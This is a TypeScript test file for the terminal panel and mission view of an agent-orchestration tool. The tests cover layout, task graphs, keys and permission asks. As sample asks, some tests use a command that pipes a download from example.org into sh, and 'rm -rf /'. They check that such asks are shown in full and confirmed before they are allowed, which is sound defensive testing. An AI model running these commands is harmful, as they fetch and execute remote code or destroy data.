// The mission on the whole screen, at every size, and the panel: when it asks, and when it calls the user.
import assert from "node:assert/strict"
import { afterEach, mock, test } from "node:test"
import type { MissionViewResult, TaskDetail } from "../src/generated/types"
import { commands, typed } from "../src/tui/commands"
import type { Door } from "../src/tui/door"
import { clip, fit, width, wrap } from "../src/tui/format"
import { tree } from "../src/tui/graph"
import { lines } from "../src/tui/lines"
import { Orders, steerOf } from "../src/tui/orders"
import { Panel } from "../src/tui/panel"
import { allowed, entries, screen } from "../src/tui/screen"
import type { Keys, Terminal } from "../src/tui/terminal"
import { missionView } from "../src/tui/view"
import { leave, size, textOf } from "./solid"

const START = 1_700_000_000_000
const task = (id: string, state: string, dependsOn: string[] = [], more: Partial<TaskDetail> = {}): TaskDetail => ({ id, title: `Part ${id}`, state, dependsOn, files: [`${id}.txt`], checks: [], attempts: 1, ...more })

function view(state = "running", more: Partial<MissionViewResult> = {}, awaitsApproval = false): MissionViewResult {
  const tasks = [task("T1", "completed", [], { beganAt: START, endedAt: START + 5_000 }), task("T2", "in_progress", ["T1"], { beganAt: START + 5_000, attempts: 2 }), task("T3", "failed", ["T1"], { note: "the checks object" }), task("T4", "pending", ["T2", "T3"])]
  const ended = ["completed", "failed", "stopped", "partially_completed"].includes(state)
  const mission = { id: "01a1fe42-9418-7701-9360-7d6374657442", title: "Do it", state, phase: "executing", parentSession: "s", directory: "/p", done: 1, running: 1, waiting: 1, failed: 1, total: 4, createdAt: START, ...(ended ? { endedAt: START + 9_000 } : {}) }
  return {
    detail: { mission, tasks, asks: [], checkpoints: [], forecast: { minutes: 64.2, turns: 5 }, tokens: 12_000, cost: 0.5, awaitsApproval },
    summary: "First the parts, then the whole.",
    attempts: [
      { role: "planner", ordinal: 1, session: "ses_p", state: "done", openedAt: START, closedAt: START + 1_000 },
      { role: "worker", task: "T2", ordinal: 1, session: "ses_1", state: "failed", reason: "no report", openedAt: START, closedAt: START + 2_000 },
      { role: "worker", task: "T2", ordinal: 2, session: "ses_2", state: "open", openedAt: START + 2_000 },
    ],
    findings: [{ task: "T2", severity: "high", file: "a.ts", line: 3, message: "Half a cent is lost." }],
    log: Array.from({ length: 30 }, (_, n) => ({ at: START + n * 1_000, text: `line ${n}` })),
    ...more,
  }
}

const shown = (given: MissionViewResult | undefined, columns: number, height: number, selected = 2) =>
  screen(given, { width: columns, height, selected, now: START + 10_000 }).map((row) => row.map((span) => span.text).join(""))

test("every size is filled exactly, whatever stands in the mission", () => {
  const wild = "日本語のとても長い題名 🎉 \u001b[31m\n" + "x".repeat(300)
  const hard = view("running", { summary: wild, log: [{ at: START, text: wild }], findings: [{ severity: "low", message: wild }] })
  hard.detail.mission.title = wild
  hard.detail.tasks = Array.from({ length: 60 }, (_, n) => task(`T${n}`, "pending", n === 0 ? [] : [`T${n - 1}`], { title: wild, note: wild }))
  for (const given of [view(), hard, view("completed"), undefined]) {
    for (const columns of [60, 80, 99, 100, 140, 220]) {
      for (const height of [12, 20, 24, 45]) {
        for (const selected of [0, 2, 59]) {
          const rows = shown(given, columns, height, selected)
          assert.equal(rows.length, height, `${columns}x${height}`)
          for (const row of rows) assert.equal(width(row), columns, `${columns}x${height}: ${JSON.stringify(row)}`)
          assert.ok(!rows.join("").includes("\u001b"))
        }
      }
    }
  }
})

test("the chosen task is shown with attempts, findings and the end of the log", () => {
  const text = shown(view(), 140, 45).join("\n")
  for (const part of ["› ├─▸ T2 Part T2", "└─· T4 Part T4 + T2", "worker 1 failed 0:02", "no report", "worker 2 at work 0:08", "[high] a.ts:3: Half a cent is lost.", "line 29", "1/4 done, 1 running, 1 waiting, 1 failed", "about 1 h 5 min to go · 0:10 · 12.0k tokens · $0.50"]) assert.ok(text.includes(part), `${part}\n${text}`)
  assert.match(shown(view(), 140, 45, 0).join("\n"), /First the parts, then the whole\.[^]*planner 1 done/)
  assert.match(shown(view(), 80, 24, 3).join("\n"), /T3 failed[^]*the checks object/)
})

test("a chosen task far down is on the screen", () => {
  const many = view()
  many.detail.tasks = Array.from({ length: 100 }, (_, n) => task(`T${n}`, "pending"))
  assert.ok(shown(many, 80, 24, 90).some((row) => row.startsWith("› · T89 ")))
})

test("a graph as a list: below what is waited for last, once each, cycles and strangers passed over", () => {
  const drawn = (tasks: TaskDetail[]) => tree(tasks).map(({ task, stem, also }) => `${stem}${task.id}${also.length > 0 ? `+${also.join("+")}` : ""}`)
  assert.deepEqual(drawn([task("A", "pending"), task("B", "pending", ["A"]), task("C", "pending", ["A"]), task("D", "pending", ["B", "C"]), task("E", "pending", ["B"])]), ["A", "├─B", "│ └─E", "└─C", "  └─D+B"])
  const tries = ["A.r1", "A.r2"].map((id) => ({ ...task(id, "in_progress"), partOf: "A" }))
  assert.deepEqual(drawn([task("A", "in_progress"), ...tries, task("B", "pending", ["A"])]), ["A", "├─A.r1", "├─A.r2", "└─B"])
  assert.deepEqual(drawn([task("A", "pending", ["B"]), task("B", "pending", ["A", "gone"])]), ["A+B", "└─B"])
})

test("orders are those the state allows", () => {
  const keys = (given: MissionViewResult) => allowed(given, undefined, { width: 80, height: 24 }).map(([key, order]) => `${key} ${order}`)
  assert.deepEqual(keys(view()), ["p pause", "u suspend", "s steer", "c cancel"])
  assert.deepEqual(keys(view("paused", {}, true)), ["a accept plan", "x another plan", "s steer", "c cancel"])
  assert.deepEqual(keys(view("paused")), ["p resume", "u suspend", "s steer", "c cancel"])
  assert.deepEqual(keys(view("partially_completed")), ["r retry"])
  assert.deepEqual(keys(view("completed")), [])
  const failed = entries(view()).find((entry) => entry.node?.task.id === "T3")
  assert.deepEqual(allowed(view("failed"), failed, { width: 80, height: 24 }), [["t", "take as done"], ["r", "retry"]])
  assert.deepEqual(entries(view()).map((entry) => entry.session), ["ses_p", undefined, "ses_2", undefined, undefined])
})

test("text is cut by columns, not by characters", () => {
  assert.equal(clip("日本語", 5), "日本…")
  assert.equal(clip("abc", 3), "abc")
  assert.deepEqual(fit([{ text: "日本", colour: "text" }], 3).map((span) => span.text), ["日…"])
  assert.deepEqual(wrap("one two three four", 8, 2), ["one two", "three …"])
})

class FakeTerminal implements Terminal {
  readonly said: string[] = []
  pressed: Keys = {}
  answer: string | undefined
  current: string | undefined = "s"
  turnRuns = false
  ends: (() => void)[] = []
  turned = () => {}
  directory = () => "/p"
  session = () => this.current
  busy = () => this.turnRuns
  colour = (name: string) => name
  size = () => () => size
  fetchesNotices = false
  toast = (kind: string, message: string, title?: string) => void this.said.push(`${kind}: ${title ? `${title}: ` : ""}${message}`)
  notify = (title: string, message: string, sound: string) => void this.said.push(`${sound}! ${title}: ${message}`)
  say = (title: string, message: string) => void this.said.push(`${title}: ${message}`)
  ask = async () => this.answer
  confirm = async () => this.answer !== undefined
  choose = async (title: string, choices: { value: string }[]) => (this.said.push(`${title} ${choices.map(({ value }) => value).join()}`), this.answer)
  openView = (mission: string) => void this.said.push(`view ${mission}`)
  leaveView = () => void this.said.push("left")
  openSession = (session: string) => void this.said.push(`session ${session}`)
  keys = (keys: Keys) => ((this.pressed = keys), () => void (this.pressed = {}))
  registerPanel = () => {}
  registerView = () => {}
  registerCommands = () => {}
  wakes = 0
  wake = async () => (this.wakes++, true)
  onTurn = (tell: () => void) => void (this.turned = tell)
  onDispose = (end: () => void) => void this.ends.push(end)
}

/** Answers by method, and of all processes by socket; what was asked is kept. One process has the directory open. */
function fakeDoor(answers: Record<string, (params: any, socket?: string) => unknown>, sockets: string[] = []) {
  const asked: [string, any][] = []
  const ask = async (method: string, params: unknown) => (asked.push([method, params]), answers[method]?.(params))
  const askAll = async (method: string, paramsFor: (socket: string) => unknown) =>
    new Map(sockets.map((socket) => {
      const params = paramsFor(socket)
      asked.push([`${method} ${socket}`, params])
      return [socket, answers[method]?.(params, socket)]
    }))
  return { door: { look: ask, order: ask, near: async () => ["own"], askAll } as unknown as Door, asked, count: (method: string) => asked.filter(([name]) => name === method).length }
}

const settle = async () => {
  for (let turn = 0; turn < 20; turn++) await Promise.resolve()
}
const pass = async (ms: number) => {
  for (let at = 0; at < ms; at += 100) {
    mock.timers.tick(100)
    await settle()
  }
}
afterEach(() => (leave(), mock.timers.reset()))

test("keys order what the state allows, and are gone with the view", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  let given = view()
  const { door, asked, count } = fakeDoor({ "mission/view": () => given, "mission/control": () => ({}), "mission/status": () => given.detail })
  const terminal = new FakeTerminal()
  const drawn = missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
  assert.match(textOf(drawn as any), /Looking for the mission/)
  await settle()
  assert.match(textOf(drawn as any), /Mission executing/)
  terminal.pressed.down?.()
  terminal.pressed.down?.()
  terminal.pressed.return?.()
  assert.deepEqual(terminal.said, ["session ses_2"])
  for (const key of ["r", "a", "x"]) terminal.pressed[key]?.()
  await settle()
  assert.equal(count("mission/control"), 0, "not allowed now")
  terminal.answer = "Use pnpm"
  terminal.pressed.p?.()
  terminal.pressed.s?.()
  terminal.pressed.up?.()
  terminal.pressed.s?.()
  terminal.pressed.u?.()
  terminal.pressed.c?.()
  await settle()
  assert.deepEqual(asked.filter(([name]) => name === "mission/control").map(([, { action, text, task }]) => [action, text, task]), [
    ["pause", undefined, undefined],
    ["suspend", undefined, undefined],
    ["steer", "Use pnpm", "T2"],
    ["steer", "Use pnpm", undefined],
    ["cancel", undefined, undefined],
  ])
  const before = count("mission/view")
  given = view("completed")
  await pass(3_000)
  const atEnd = count("mission/view")
  assert.ok(atEnd > before)
  await pass(10_000)
  assert.equal(count("mission/view") - atEnd, 2, "an ended mission is looked at seldom")
  leave()
  assert.deepEqual(terminal.pressed, {})
  await pass(20_000)
  assert.equal(count("mission/view") - atEnd, 2, "nobody asks for a view that is gone")
})

test("flags before the words of a steer are read as the sidecar reads them, and are never the words", async () => {
  const table: [string, object][] = [
    ["use tabs", { text: "use tabs" }],
    [" --task T2 use tabs\nand pnpm ", { task: "T2", text: "use tabs\nand pnpm" }],
    ["--now --task T2.1  use --now tabs", { now: true, task: "T2.1", text: "use --now tabs" }],
    ["--task T1 --task T2 wait", { task: "T2", text: "wait" }],
    ["--task --now use tabs", { task: "--now", text: "use tabs" }],
    ["--nowhere else", { text: "--nowhere else" }],
  ]
  for (const [words, expected] of table) assert.deepEqual(steerOf(words), expected, words)
  const { door, count } = fakeDoor({ "mission/control": () => ({}) })
  const terminal = new FakeTerminal()
  const orders = new Orders(terminal, door, () => {})
  for (const words of ["--task T2", "--now", "--now --task T2 ", "--task T2 --now"]) {
    terminal.answer = words
    await assert.rejects(orders.steer("m1"), { message: "say what the workers are to know, as in /task-steer use the date helper" }, words)
  }
  for (const words of ["--task", "--now --task "]) {
    terminal.answer = words
    await assert.rejects(orders.steer("m1"), { message: "say which task, as in /task-steer --task T2 …" }, words)
  }
  assert.equal(count("mission/control"), 0)
})

test("where no other half shows toasts the panel fetches those of all processes, each once", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const all: Record<string, { number: number; title: string; message: string; variant: string }[]> = {
    one: [],
    own: [{ number: 7, title: "Mission resumed", message: "Greet", variant: "info" }],
  }
  const { door, asked, count } = fakeDoor({
    "mission/status": () => view().detail,
    "notice/list": ({ after = 0 }, socket = "") => ({ notices: all[socket]?.filter(({ number }) => number > after) }),
  }, ["one", "own"])
  const terminal = new FakeTerminal()
  terminal.fetchesNotices = true
  new Panel(terminal, door)
  await pass(3_000)
  all.own?.push({ number: 9, title: "Task T1 failed", message: "It does not greet.", variant: "error" })
  await pass(3_000)
  all.one?.push({ number: 3, title: "Mission paused", message: "In the other window", variant: "info" })
  await pass(3_000)
  assert.deepEqual(terminal.said, ["info: Mission resumed: Greet", "error: Task T1 failed: It does not greet.", "info: Mission paused: In the other window"])
  const numbers = (socket: string) => [...new Set(asked.filter(([name]) => name === `notice/list ${socket}`).map(([, { after }]) => after))]
  assert.deepEqual([numbers("own"), numbers("one")], [[undefined, 7, 9], [undefined, 3]])
  const other = fakeDoor({ "mission/status": () => view().detail }, ["one"])
  new Panel(new FakeTerminal(), other.door)
  await pass(3_000)
  assert.equal(other.count("notice/list one"), 0)
  assert.ok(count("mission/status") > 0)
  for (const end of terminal.ends) end()
})

test("a process that hangs keeps its notices, and not the panel", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const { door, count } = fakeDoor({ "mission/status": () => view().detail })
  let fetches = 0
  let release = () => {}
  door.askAll = () => (fetches++, new Promise((resolve) => (release = () => resolve(new Map()))))
  const terminal = new FakeTerminal()
  terminal.fetchesNotices = true
  new Panel(terminal, door)
  await pass(5_000)
  assert.ok(count("mission/status") >= 4)
  assert.equal(fetches, 1, "one at a time")
  release()
  await pass(2_000)
  assert.equal(fetches, 2)
  for (const end of terminal.ends) end()
})

test("the panel asks once a second while there is something to follow, and seldom else", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  let given: MissionViewResult | undefined
  const { door, count } = fakeDoor({ "mission/status": () => given?.detail })
  const terminal = new FakeTerminal()
  const panel = new Panel(terminal, door)
  const asksIn = async (ms: number) => {
    const before = count("mission/status")
    await pass(ms)
    return count("mission/status") - before
  }
  assert.equal(await asksIn(20_000), 2, "no mission: every ten seconds")
  assert.equal(textOf(panel.draw("s") as any), "")
  terminal.turnRuns = true
  terminal.turned()
  assert.ok((await asksIn(5_000)) >= 5, "a turn may begin one")
  terminal.turnRuns = false
  given = view()
  assert.ok((await asksIn(5_000)) >= 4, "a mission at work")
  assert.match(textOf(panel.draw("s") as any), /Mission executing/)
  given = view("completed")
  await pass(2_000)
  assert.equal(await asksIn(20_000), 2, "an ended one")
  terminal.current = undefined
  await pass(10_000)
  assert.equal(await asksIn(20_000), 0, "no conversation on the screen")
})

test("turns that begin and end all the time bring the next look nearer, and never put it off", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const { door, count } = fakeDoor({ "mission/status": () => view().detail })
  const terminal = new FakeTerminal()
  new Panel(terminal, door)
  for (let at = 0; at < 8_000; at += 200) {
    terminal.turned()
    await pass(200)
  }
  assert.ok(count("mission/status") >= 8, `${count("mission/status")} looks in 8 s`)
  for (const end of terminal.ends) end()
})

test("the user is called whatever is on the screen, once by the panel and the view together", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  let given = view()
  const { door, count } = fakeDoor({ "mission/status": () => given.detail, "mission/view": () => given })
  const terminal = new FakeTerminal()
  const panel = new Panel(terminal, door)
  await pass(2_000)
  terminal.current = undefined
  const before = count("mission/status")
  given = view("paused", {}, true)
  await pass(3_000)
  assert.deepEqual(terminal.said, ["question! Do it: The plan waits for your word"], "no conversation on the screen")
  assert.ok(count("mission/status") - before >= 2)
  given = view()
  missionView(terminal, door, new Orders(terminal, door, () => {}), given.detail.mission.id, panel.heard)
  await pass(2_000)
  given = view()
  given.detail.asks = [{ id: "per_1", task: "T2", permission: "bash", patterns: ["ls"], at: 2 }]
  await pass(3_000)
  given = view("completed")
  await pass(3_000)
  assert.deepEqual(terminal.said.slice(1), ["question! Do it: T2 asks: bash ls", "done! Do it: Mission completed: 1 of 4 tasks done"])
  for (const end of terminal.ends) end()
})

test("the chosen task stays chosen when others come before it, and none is when it is gone", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  let given = view()
  const { door, asked } = fakeDoor({ "mission/view": () => given, "mission/control": () => ({}) })
  const terminal = new FakeTerminal()
  const drawn = missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
  await settle()
  for (let n = 0; n < 2; n++) terminal.pressed.down?.()
  assert.match(textOf(drawn as any), /› ├─▸ T2/)
  given = view()
  given.detail.tasks.splice(1, 0, ...["T1.r1", "T1.r2"].map((id) => ({ ...task(id, "completed"), partOf: "T1" })))
  await pass(1_000)
  assert.match(textOf(drawn as any), /› ├─▸ T2/)
  terminal.answer = "Use pnpm"
  terminal.pressed.s?.()
  await settle()
  assert.equal(asked.find(([name]) => name === "mission/control")?.[1].task, "T2")
  terminal.pressed.up?.()
  assert.match(textOf(drawn as any), /› ├─✓ T1.r2/)
  given = view()
  await pass(1_000)
  assert.match(textOf(drawn as any), /› Planning, and review/)
})

test("the user is called when a plan waits, and at an end that the host does not tell itself", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  let given = view()
  const { door } = fakeDoor({ "mission/status": () => given.detail })
  const terminal = new FakeTerminal()
  const panel = new Panel(terminal, door)
  const next = async (state: MissionViewResult) => {
    given = state
    await panel.look()
    return terminal.said.splice(0)
  }
  assert.deepEqual(await next(view()), [])
  assert.deepEqual(await next(view("paused", {}, true)), ["question! Do it: The plan waits for your word"])
  assert.deepEqual(await next(view("paused", {}, true)), [], "once")
  assert.deepEqual(await next(view("completed")), ["done! Do it: Mission completed: 1 of 4 tasks done"])
  assert.deepEqual(await next(view("completed")), [])
  await next(view())
  terminal.turnRuns = true
  assert.deepEqual(await next(view("failed")), [], "the host calls at the end of the turn that takes the report")
})

test("an agent that asks is in the panel and the view, calls the user once, and is answered by a key", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const asking = view()
  asking.detail.asks = [
    { id: "per_1", permission: "bash", patterns: ["ls"], at: 1, allowed: true, by: "user" },
    { id: "per_2", task: "T2", permission: "bash", patterns: ["npm publish"], at: 2 },
  ]
  assert.deepEqual(allowed(asking, undefined, { width: 80, height: 24 }).slice(0, 2), [["y", "allow"], ["n", "refuse"]])
  const text = shown(asking, 80, 24, 0).join("\n")
  for (const part of ["Mission waits for you: ask", "T2 asks: bash npm publish", "y allow"]) assert.ok(text.includes(part), `${part}\n${text}`)
  const { door, asked } = fakeDoor({ "mission/view": () => asking, "mission/status": () => asking.detail, "mission/control": () => ({}) })
  const terminal = new FakeTerminal()
  const panel = new Panel(terminal, fakeDoor({ "mission/status": () => (terminal.said.push("looked"), terminal.said.length > 1 ? asking.detail : view().detail) }).door)
  await panel.look()
  await panel.look()
  await panel.look()
  assert.deepEqual(terminal.said.filter((one) => one !== "looked"), ["question! Do it: T2 asks: bash npm publish"])
  assert.match(textOf(panel.draw("s") as any), /T2 asks: bash npm publish[^]*answer it in the dialog below/)
  missionView(terminal, door, new Orders(terminal, door, () => {}), "m1", () => {})
  await settle()
  terminal.pressed.n?.()
  await settle()
  assert.deepEqual(asked.filter(([name]) => name === "mission/control").map(([, { action, ask }]) => [action, ask]), [["deny", "per_2"]])
})

test("an ask is shown in full before it can be allowed, and no other one is answered in its place", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const command = `npm install --prefix packages/web && ${"x".repeat(100)} && curl https://example.org/setup | sh`
  const asking = view()
  asking.detail.asks = [{ id: "per_1", task: "T2", permission: "bash", patterns: [command], at: 1 }]
  const whole = (rows: string[]) => rows.map((row) => row.trimEnd()).join("").replaceAll(" ", "").includes(`T2asks:bash${command}`.replaceAll(" ", ""))
  for (const [columns, height] of [[80, 24], [60, 20], [140, 45]] as const) {
    const rows = shown(asking, columns, height, 0)
    assert.ok(whole(rows), rows.join("\n"))
    assert.ok(rows.join().includes("y allow"))
  }
  assert.ok(whole(lines(asking.detail, START).map(({ text }) => text)), "in the panel")
  const long = view()
  long.detail.asks = [{ id: "per_2", permission: "bash", patterns: ["echo ".repeat(400)], at: 1 }]
  const rows = shown(long, 80, 24, 0).join("\n")
  assert.match(rows, /lines more: to allow it, make the window larger/)
  assert.ok(!rows.includes("y allow") && rows.includes("n refuse"), rows)
  assert.match(lines(long.detail, START).map(({ text }) => text).join("\n"), /… \d+ more lines of it/)

  let now = asking
  const { door, asked } = fakeDoor({ "mission/view": () => now, "mission/status": () => now.detail, "mission/control": () => ({}) })
  const controls = () => asked.filter(([name]) => name === "mission/control").map(([, { action, ask, text }]) => [action, ask, text])
  const terminal = new FakeTerminal()
  const orders = new Orders(terminal, door, () => {})
  missionView(terminal, door, orders, "m1", () => {})
  await settle()
  now = view()
  now.detail.asks = [{ id: "per_9", permission: "bash", patterns: ["rm -rf /"], at: 1 }]
  terminal.pressed.y?.()
  await settle()
  assert.deepEqual(controls(), [["allow", "per_1", undefined]], "the one on the screen")

  const confirmed: string[] = []
  terminal.confirm = async (...shown: string[]) => (confirmed.push(shown.join(" ")), terminal.answer !== undefined)
  await orders.answerOne("m1", "allow")
  assert.deepEqual([confirmed, controls().length], [["Allow this once? asks: bash rm -rf /"], 1], "the user turns away")
  terminal.answer = "yes"
  await orders.answerOne("m1", "deny", "clean up by hand")
  assert.deepEqual(controls().at(-1), ["deny", "per_9", "clean up by hand"])
  now = view()
  now.detail.asks = [{ id: "per_3", task: "T2", permission: "bash", patterns: ["ls"], at: 1 }, { id: "per_4", task: "T3", permission: "bash", patterns: ["pwd"], at: 2 }, { id: "per_5", task: "T1", permission: "bash", patterns: ["id"], at: 0, allowed: true }]
  await orders.answerOne("m1", "deny", "t3 use pnpm")
  assert.deepEqual(controls().at(-1), ["deny", "per_4", "use pnpm"])
  terminal.answer = "per_3"
  await orders.answerOne("m1", "allow")
  assert.equal(terminal.said.findLast((one) => one.startsWith("Which")), "Which permission? per_3,per_4")
  assert.deepEqual(controls().at(-1), ["allow", "per_3", undefined])
  for (const [action, words, refusal] of [["allow", "T1", /No permission of "T1"/], ["deny", "T1 no", /No permission of "T1"/], ["allow", "please", /No permission of "please"/], ["allow", "T2 now", /takes the ask and nothing else/]] as const) {
    await assert.rejects(orders.answerOne("m1", action, words), refusal)
  }
  now = long
  await assert.rejects(orders.answerOne("m1", "allow"), /too long to be shown here/)
  assert.equal(controls().length, 4)
})

test("what is typed behind a command goes to the sidecar, once the user is sure where it cannot be undone", async () => {
  let text = "The workers are told: 0199 executing, 1/4 done: Do it."
  const mission = view().detail.mission
  const { door, asked } = fakeDoor({ "command/run": () => ({ text }), "mission/list": () => ({ missions: [mission] }), "mission/status": () => view().detail })
  const terminal = new FakeTerminal()
  const all = commands(terminal, new Orders(terminal, door, () => {}))
  const type = async (line: string) => {
    const found = typed(line, all)
    assert.ok(found, line)
    await found.command.run(found.words)
  }
  const ran = () => asked.filter(([name]) => name === "command/run").map(([, { command, text, session }]) => [command, text, session])
  for (const line of ["/tasks x", "say /task-steer x", "/task do it", " /task-steer x", "/task-steering x"]) assert.equal(typed(line, all), undefined, line)
  await type("/task-steer --task T2  use pnpm\nand tabs ")
  assert.deepEqual(ran(), [["steer", "--task T2  use pnpm\nand tabs", "s"]])
  assert.deepEqual(terminal.said.splice(0), [`success: ${text}`])
  text = "Not done: no task T9."
  await assert.rejects(type("/task-accept T9 by hand"), /Not done: no task T9\./)
  text = "2 missions are open here.\n- one\n- two"
  await type("/task-pause now")
  assert.deepEqual(terminal.said.splice(0), [`/task-pause: ${text}`])
  text = "The mission is cancelled: 0199."
  await type(`/task-cancel ${mission.id}`)
  assert.equal(ran().length, 3, "not sure")
  terminal.answer = "yes"
  await type(`/task-cancel ${mission.id}`)
  assert.equal(ran().length, 4)
  assert.deepEqual(terminal.said, [], "the sidecar tells the end itself")
  await type(`/task-view ${mission.id.slice(0, 13)}`)
  assert.deepEqual(terminal.said, [`view ${mission.id}`])
  await assert.rejects(type("/task-view something"), /No mission of this project is "something"/)
})

test("a process that went to rest is started for an order, and waited for", async () => {
  mock.timers.enable({ apis: ["setTimeout", "Date"], now: START })
  const { door, asked } = fakeDoor({ "mission/status": () => view("failed").detail, "mission/control": () => ({}) })
  const terminal = new FakeTerminal()
  const orders = new Orders(terminal, door, () => {})
  door.near = async () => (terminal.wakes > 0 && Date.now() > START + 500 ? ["own"] : [])
  const order = orders.retry("m1")
  await pass(300)
  assert.deepEqual([terminal.wakes, asked.length], [1, 0])
  await pass(1_000)
  await order
  assert.deepEqual([terminal.wakes, asked.map(([name]) => name)], [1, ["mission/control"]])
  await orders.detail("m1")
  assert.equal(terminal.wakes, 1)
  door.near = async () => []
  door.order = async () => undefined
  const late = assert.rejects(orders.retry("m1"), /No process of Gantry has this project open/)
  await pass(11_000)
  await late
  terminal.wake = async () => false
  await assert.rejects(orders.retry("m1"), /No process/, "no way to start one, so nothing to wait for")
})

test("files are taken back after a look at what that means, and not where something stands in the way", async () => {
  const mission = view().detail.mission
  const result = { mission, done: false, files: [{ path: "a.ts", what: "changed back" }], conflicts: [] as string[], others: [], left: [], text: "a.ts: changed back" }
  const { door, asked } = fakeDoor({ "mission/rollback": ({ dryRun }) => ({ ...result, done: !dryRun }) })
  const terminal = new FakeTerminal()
  const orders = new Orders(terminal, door, () => {})
  await orders.rollback("m1")
  assert.deepEqual(asked.map(([, { dryRun }]) => dryRun), [true], "the user has not agreed")
  terminal.answer = "yes"
  await orders.rollback("m1")
  assert.deepEqual(asked.map(([, { dryRun }]) => dryRun), [true, true, false])
  assert.match(terminal.said.join(), /success: Files taken back: 1\. gantry rollback \S+ --undo/)
  result.conflicts.push("a.ts: you changed it")
  result.text = "a.ts is in the way"
  await orders.rollback("m1")
  assert.match(terminal.said.at(-1) ?? "", /a\.ts is in the way/)
  assert.equal(asked.length, 4)
})

test("with several missions open and none of the conversation, the user chooses", async () => {
  const several = [view().detail.mission, { ...view().detail.mission, id: "m2", title: "Another" }]
  let open = several
  const { door } = fakeDoor({ "mission/status": ({ mission }) => (mission ? view().detail : undefined), "mission/list": (params) => ({ missions: params.open ? open : several }) })
  const terminal = new FakeTerminal()
  const orders = new Orders(terminal, door, () => {})
  assert.equal(await orders.meant(), undefined)
  terminal.answer = "m2"
  assert.equal(await orders.meant(), "m2")
  assert.deepEqual(terminal.said, Array(2).fill(`Which mission? ${several[0]?.id},m2`))
  open = several.map((mission) => ({ ...mission, parentSession: "other" }))
  terminal.current = "elsewhere"
  assert.equal(await orders.meant(), "m2", "those of other conversations, where this one has none")
  terminal.said.pop()
  open = [open[0]!, { ...several[1]!, parentSession: "elsewhere" }]
  const own = fakeDoor({ "mission/status": () => ({ ...view().detail, mission: open[1] }), "mission/list": () => ({ missions: open }) })
  assert.equal(await new Orders(terminal, own.door, () => {}).meant(), "m2", "the only one of its own needs no word")
  terminal.current = "s"
  open = []
  assert.equal(await orders.meant(), several[0]?.id, "the newest")
  await assert.rejects(new Orders(terminal, fakeDoor({}).door, () => {}).meant(), /One begins with \/task/)
})
